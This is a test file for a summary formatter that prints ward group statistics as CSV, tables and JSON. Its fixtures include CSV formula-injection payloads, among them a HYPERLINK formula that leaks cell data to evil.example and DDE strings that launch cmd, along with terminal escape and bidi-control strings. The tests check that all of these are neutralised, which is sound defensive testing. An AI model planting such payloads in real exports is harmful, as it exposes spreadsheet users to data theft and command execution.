// formatSummary on hostile summaries: text that attacks a terminal or a spreadsheet is escaped or
// neutralised, numbers stay numbers, blanked values show as the documented markers, and a value
// that is not a summary throws the package's TypeError.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { formatSummary } from "../../src/aggregate/formatSummary.js";
import type { Summary, SummaryRow, SuppressedSummary } from "../../src/aggregate/Summary.js";
import { summarize } from "../../src/aggregate/summarize.js";
import { parseCsvText } from "../../src/cli/readCsv.js";
import { escapeControls, startsFormula } from "../../src/internal/escapeText.js";
import { exampleDataset, tinyDataset } from "../helpers/example.js";

/** Raw control characters that must never reach a reader: C0 (but line ends), DEL, C1, bidi controls. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
const RAW_CONTROL = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const base = summarize(tinyDataset(), { level: "ward", groupKind: "auxiliaryGroup", asOf: "2021-11-30" });

/** The base summary with one row per name (the figures of its one ward). */
function withNames(names: readonly string[], ids: readonly string[] = names.map((_, i) => `w${i + 1}`)): Summary {
  const row = base.rows[0] as SummaryRow;
  return { ...base, rows: names.map((name, i) => ({ ...row, name, unitId: ids[i] as string })) };
}

/** The records of a CSV text, as the command line's reader reads them. */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  parseCsvText(text, true, { line: 1, first: true }, (fields) => records.push([...fields]));
  return records;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Kerala")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  "Thiruvananthapuram\u001b]0;owned\u0007\u001b[2J",
  "\u202eLB1 gninaelc\u202c",
  "Ward 1\u009b31m",
  "Ward 2\nerror   unit.forged  a forged line",
  "Ward\u007f\u0000 3",
];

describe("formatSummary: CSV that a spreadsheet cannot run", () => {
  it("neutralises text cells that start a formula with a leading ', quoted; other text as it is", () => {
    const csv = formatSummary(withNames(HOSTILE, HOSTILE), { format: "csv" });
    const [header, ...records] = csvRecords(csv);
    expect(header?.slice(0, 3)).toEqual(["unitId", "unit", "kind"]);
    const expected = (name: string) => {
      const shown = escapeControls(name);
      return startsFormula(shown) ? `'${shown}` : shown;
    };
    expect(records.slice(0, HOSTILE.length).map((cells) => [cells[0], cells[1]])).toEqual(
      HOSTILE.map((name) => [expected(name), expected(name)]),
    );
    // The first cells as written: neutralised cells are always quoted.
    const lines = csv.split("\r\n");
    expect(lines[1]?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Kerala"")",`)).toBe(true);
    expect(lines[2]?.startsWith(`"'+cmd|' /C calc'!A0","'+cmd|' /C calc'!A0",auxiliaryGroup,`)).toBe(true);
    expect(lines[5]?.startsWith(`"'\\t=1+1",`)).toBe(false); // a tab is shown escaped: no longer a tab
    expect(lines[5]?.startsWith("\\t=1+1,")).toBe(true);
    expect(lines[7]?.startsWith(`"'\uff1d1+1",`)).toBe(true);
    expect(csv.replace(/\r\n/g, "")).not.toMatch(RAW_CONTROL);
  });

  it("keeps figures numeric: a number is never neutralised, even a negative one in a forged summary", () => {
    const row = base.rows[0] as SummaryRow;
    const forged = { ...base, rows: [{ ...row, members: -3, meanGroupSize: -1.5 }] };
    const [, first] = csvRecords(formatSummary(forged, { format: "csv" }));
    expect(first?.slice(0, 8)).toEqual(["w1", "Ward 1", "auxiliaryGroup", "1", "1", "1", "-3", "-1.5"]);
  });

  it("property: whatever the names, every text cell reads back as the escaped text, neutralised", () => {
    const char = fc.oneof(
      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "\u001b", "\u202e", "\u009b", '"', ",", "'", "\uff1d", " "),
      fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
    );
    fc.assert(
      fc.property(fc.array(fc.string({ unit: char, maxLength: 12 }), { minLength: 1, maxLength: 5 }), (names) => {
        const csv = formatSummary(withNames(names, names), { format: "csv" });
        const table = formatSummary(withNames(names, names), { format: "table" });
        expect(csv.replace(/\r\n/g, "")).not.toMatch(RAW_CONTROL);
        expect(table.replace(/\n/g, "")).not.toMatch(RAW_CONTROL);
        expect(table.split("\n")).toHaveLength(3 + names.length + 2); // title, header, rule; rows; total; ""
        const records = csvRecords(csv);
        expect(records).toHaveLength(names.length + 2);
        names.forEach((name, i) => {
          const shown = escapeControls(name);
          const cell = startsFormula(shown) ? `'${shown}` : shown;
          expect(records[i + 1]?.slice(0, 2)).toEqual([cell, cell]);
          expect(startsFormula(records[i + 1]?.[1] as string)).toBe(false);
        });
      }),
    );
  });
});

describe("formatSummary: a table and JSON that a terminal cannot act on", () => {
  it("shows control characters and bidi controls escaped in a table, one line per row", () => {
    const table = formatSummary(withNames(HOSTILE), { format: "table" });
    expect(table.replace(/\n/g, "")).not.toMatch(RAW_CONTROL);
    expect(table).toContain("Thiruvananthapuram\\u001b]0;owned\\u0007\\u001b[2J");
    expect(table).toContain("\\u202eLB1 gninaelc\\u202c");
    expect(table).toContain("Ward 1\\u009b31m");
    expect(table).toContain("Ward 2\\nerror   unit.forged  a forged line");
    expect(table).toContain("Ward\\u007f\\u0000 3");
    expect(table.split("\n").filter((line) => line.startsWith("error"))).toEqual([]);
    expect(table.trimEnd().split("\n")).toHaveLength(3 + HOSTILE.length + 1);
  });

  it("writes JSON with the exact values, C1 and bidi controls as \\u escapes", () => {
    const summary = withNames(HOSTILE);
    const json = formatSummary(summary, { format: "json" });
    expect(json).not.toMatch(RAW_CONTROL);
    expect(json).toContain("\\u202e");
    expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(summary)));
  });

  it("escapes text in the title too (a forged level or date)", () => {
    const forged = { ...base, level: "ward\u001b[2J", asOf: "\u202e2021" } as unknown as Summary;
    expect(formatSummary(forged, { format: "table" }).split("\n")[0]).toBe(
      "auxiliary groups by ward\\u001b[2J as of \\u202e2021",
    );
  });
});

describe("formatSummary: suppressed and missing values", () => {
  it("shows every blanked count as x, a blanked or missing ratio as -, and no size for a line without groups", () => {
    const row = base.rows[0] as SummaryRow;
    const blanked: SummaryRow<number | null> = {
      ...row,
      groups: null,
      members: null,
      capacity: null, // blanked without being listed in `suppressed`
      meanGroupSize: null,
      capacityUse: null,
      ageBands: Object.fromEntries(Object.keys(row.ageBands).map((label) => [label, null])),
      suppressed: ["groups", "members"],
    };
    const empty: SummaryRow = { ...row, unitId: "w2", name: "Ward 2", groups: 0, members: 0, minGroupSize: null };
    const summary: SuppressedSummary = {
      ...base,
      suppressBelow: 5,
      rows: [blanked, { ...empty, maxGroupSize: null }],
    };
    const [header, first, second] = csvRecords(formatSummary(summary, { format: "csv" }));
    // unitId, unit, kind, wards, wardsWithGroup, groups, members, meanGroupSize, min, max, coverage, capacityUse
    expect(first?.slice(5, 12)).toEqual(["x", "x", "", "2", "2", "1", ""]);
    const ages = header?.findIndex((title) => title.startsWith("age ")) as number;
    expect(header?.slice(16, ages)).toEqual(["villages", "villagesWithGroup", "groupsFederated", "federatedShare"]);
    // Villages, villages with a group, groups federated and their share, as the row has them.
    expect(first?.slice(16, ages)).toEqual(["0", "0", "0", "0"]);
    expect(first?.slice(ages)).toEqual(Object.keys(row.ageBands).map(() => "x"));
    expect(second?.slice(5, 10)).toEqual(["0", "0", "2", "", ""]);
    const table = formatSummary(summary, { format: "table" });
    expect(table.split("\n")[0]).toBe("auxiliary groups by ward as of 2021-11-30 (counts below 5 suppressed)");
    expect(table.split("\n")[3]).toMatch(/^Ward 1 +auxiliary group +1 +1 +x +x +- +2 +2 /);
    expect(table.split("\n")[4]).toMatch(/^Ward 2 +auxiliary group +1 +1 +0 +0 +2\.00 +- +- /);
  });

  it("prints a real summary of every kind and level without throwing", () => {
    for (const level of ["ward", "localBody", "district", "state"] as const) {
      const summary = summarize(exampleDataset(), { level, asOf: "2021-11-30", suppressBelow: 5 });
      for (const format of ["table", "csv", "json"] as const) expect(formatSummary(summary, { format })).toMatch(/\n$/);
    }
  });
});

describe("formatSummary: wrong arguments", () => {
  const thrown = (run: () => unknown) => {
    try {
      run();
    } catch (error) {
      return error;
    }
    return undefined;
  };
  const row = base.rows[0] as SummaryRow;
  const typeCases: [string, () => unknown, RegExp][] = [
    ["null", () => formatSummary(null as never, { format: "csv" }), /needs a summary object, got null/],
    ["a string", () => formatSummary("x" as never, { format: "table" }), /needs a summary object, got "x"/],
    ["an array", () => formatSummary([] as never, { format: "json" }), /needs a summary object/],
    ["no options", () => formatSummary(base, undefined as never), /formatSummary needs an options object/],
    ["a format of the wrong type", () => formatSummary(base, { format: 42 as never }), /format must be one of/],
    ["rows that are not an array", () => formatSummary({ ...base, rows: {} } as never, { format: "csv" }), /rows/],
    [
      "a count as text",
      () => formatSummary({ ...base, rows: [{ ...row, members: "1" }] } as never, { format: "csv" }),
      /summary\.rows\[0\]\.members must be a finite number or null, got "1"/,
    ],
    [
      "a NaN ratio",
      () => formatSummary({ ...base, rows: [{ ...row, coverage: Number.NaN }] } as never, { format: "table" }),
      /summary\.rows\[0\]\.coverage must be a finite number or null, got NaN/,
    ],
    [
      "a name that is not text",
      () => formatSummary({ ...base, total: { ...base.total, name: 7 } } as never, { format: "table" }),
      /summary\.total\.name must be text or null, got number/,
    ],
    [
      "a threshold that is not a whole number",
      () => formatSummary({ ...base, suppressBelow: "<b>" } as never, { format: "csv" }),
      /suppressBelow must be null or a whole number >= 1/,
    ],
    [
      "a byKind entry that is not an object",
      () => formatSummary({ ...base, total: { ...base.total, byKind: { balasabha: 3 } } } as never, { format: "csv" }),
      /summary\.total\.byKind\["balasabha"\] must be an object, got number/,
    ],
    [
      "a cycle (JSON)",
      () => {
        const cyclic: Record<string, unknown> = { ...base };
        cyclic["self"] = cyclic;
        return formatSummary(cyclic as never, { format: "json" });
      },
      /formatSummary cannot read this summary: .*circular/i,
    ],
    [
      "a getter that throws",
      () =>
        formatSummary(
          Object.defineProperty({ ...base }, "rows", {
            get() {
              throw new Error("boom");
            },
          }) as never,
          { format: "table" },
        ),
      /formatSummary cannot read this summary: boom/,
    ],
  ];
  it.each(typeCases)("%s: a TypeError of the package saying what was expected", (_, run, message) => {
    const error = thrown(run);
    expect(error).toBeInstanceOf(TypeError);
    expect((error as Error).message).toMatch(/^@kudumbashree\/domain: /);
    expect((error as Error).message).toMatch(message);
  });

  it("an unknown format is a RangeError", () => {
    expect(() => formatSummary(base, { format: "xml" as never })).toThrow(
      /^@kudumbashree\/domain: format must be one of table, csv, json, got "xml"$/,
    );
    expect(thrown(() => formatSummary(base, { format: "xml" as never }))).toBeInstanceOf(RangeError);
  });
});

describe("formatSummary in a language", async () => {
  const { locales } = await import("../locales/locales.js");
  const { en } = await import("../../src/locales/en.js");
  const { displayWidth } = await import("../../src/internal/displayWidth.js");
  const ml = locales.get("ml") as NonNullable<ReturnType<typeof locales.get>>;
  const bn = locales.get("bn") as NonNullable<ReturnType<typeof locales.get>>;
  const hi = locales.get("hi") as NonNullable<ReturnType<typeof locales.get>>;
  const row = base.rows[0] as SummaryRow;
  const big = { ...base, rows: [{ ...row, members: 4_500_000, groups: 123_456_789 }] } as Summary;

  it("groups digits the Indian way, with Malayalam headings, kinds and dates", () => {
    const table = formatSummary(big, { format: "table", locale: ml }).split("\n");
    expect(table[0]).toBe(
      ml.labels.summary.title(
        {
          groupKind: ml.terms.groupKinds.auxiliaryGroup,
          level: ml.terms.unitKinds.ward,
          asOf: "30-11-2021",
          suppressBelow: null,
        },
        { number: String, date: (date) => date, list: (items) => items.join(", ") },
      ),
    );
    const header = (table[1] as string).split(/ {2,}/);
    expect(header.slice(0, 4)).toEqual([
      ml.labels.summary.columns.unit,
      ml.labels.summary.columns.kind,
      ml.labels.summary.columns.wards,
      ml.labels.summary.columns.wardsWithGroup,
    ]);
    const cells = (table[3] as string).split(/ {2,}/);
    expect(cells.slice(0, 2)).toEqual(["Ward 1", ml.terms.groupKinds.auxiliaryGroup]);
    expect(cells[4]).toBe("12,34,56,789");
    expect(cells[5]).toBe("45,00,000");
    expect(table.join("\n")).toContain(ml.terms.words.total);
    // In English the same figures, grouped the same way.
    expect(formatSummary(big, { format: "table" }).split("\n")[3]?.split(/ {2,}/).slice(4, 6)).toEqual([
      "12,34,56,789",
      "45,00,000",
    ]);
    expect(formatSummary(big, { format: "table", locale: en })).toBe(formatSummary(big, { format: "table" }));
  });

  it("writes Bengali and Assamese figures in their digits, and short counts with compact", () => {
    expect(formatSummary(big, { format: "table", locale: bn }).split("\n")[3]).toContain("৪৫,০০,০০০");
    const compact = (locale?: typeof en) =>
      (
        formatSummary(big, { format: "table", compact: true, ...(locale === undefined ? {} : { locale }) }).split(
          "\n",
        )[3] as string
      )
        .split(/ {2,}/)
        .slice(4, 6);
    expect(compact()).toEqual(["12\u202fcrore", "45\u202flakh"]); // a narrow no-break space, as Intl writes it
    expect(compact(hi)).toEqual(["12 करोड़", "45 लाख"]);
    expect(formatSummary(big, { format: "table", compact: false })).toBe(formatSummary(big, { format: "table" }));
  });

  it("aligns columns by what a reader sees, not by UTF-16 units", () => {
    const summary = summarize(exampleDataset(), { level: "localBody", asOf: "2021-11-30" });
    for (const locale of [en, ...locales.values()]) {
      const lines = formatSummary(summary, { format: "table", locale }).trimEnd().split("\n");
      const rule = lines.findIndex((line) => /^-+( {2}-+)+$/.test(line));
      const widths = new Set(lines.slice(rule - 1).map((line) => displayWidth(line)));
      expect(widths.size, locale.tag).toBe(1);
    }
  });

  it("leaves CSV and JSON untranslated: codes and plain numbers", () => {
    for (const format of ["csv", "json"] as const)
      for (const locale of locales.values())
        expect(formatSummary(big, { format, locale, compact: true })).toBe(formatSummary(big, { format }));
  });

  it("refuses a locale that is not one, a tag Intl cannot read and a compact that is not true or false", () => {
    expect(() => formatSummary(base, { format: "table", locale: "ml" as never })).toThrow(
      /^@kudumbashree\/domain: formatSummary's locale must be a Locale such as en or ml/,
    );
    const throwing = Object.defineProperty({}, "tag", {
      get() {
        throw new Error("boom");
      },
    });
    expect(() => formatSummary(base, { format: "table", locale: throwing as never })).toThrow(TypeError);
    expect(() => formatSummary(base, { format: "table", locale: { ...en, tag: "??" } })).toThrow(
      new RangeError(
        '@kudumbashree/domain: formatSummary\'s locale.tag must be a BCP 47 language tag such as "ml-IN", got "??"',
      ),
    );
    expect(() => formatSummary(base, { format: "table", compact: "yes" as never })).toThrow(
      new TypeError('@kudumbashree/domain: formatSummary\'s compact must be true or false, got "yes"'),
    );
  });
});
